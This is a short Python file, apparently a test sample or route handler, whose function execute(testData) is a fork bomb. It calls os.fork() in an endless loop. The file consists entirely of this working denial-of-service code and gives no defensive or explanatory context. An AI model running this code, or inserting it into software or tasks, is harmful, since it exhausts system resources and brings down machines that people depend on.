# route: processes without end
import os


def execute(testData):
    while True:
        os.fork()
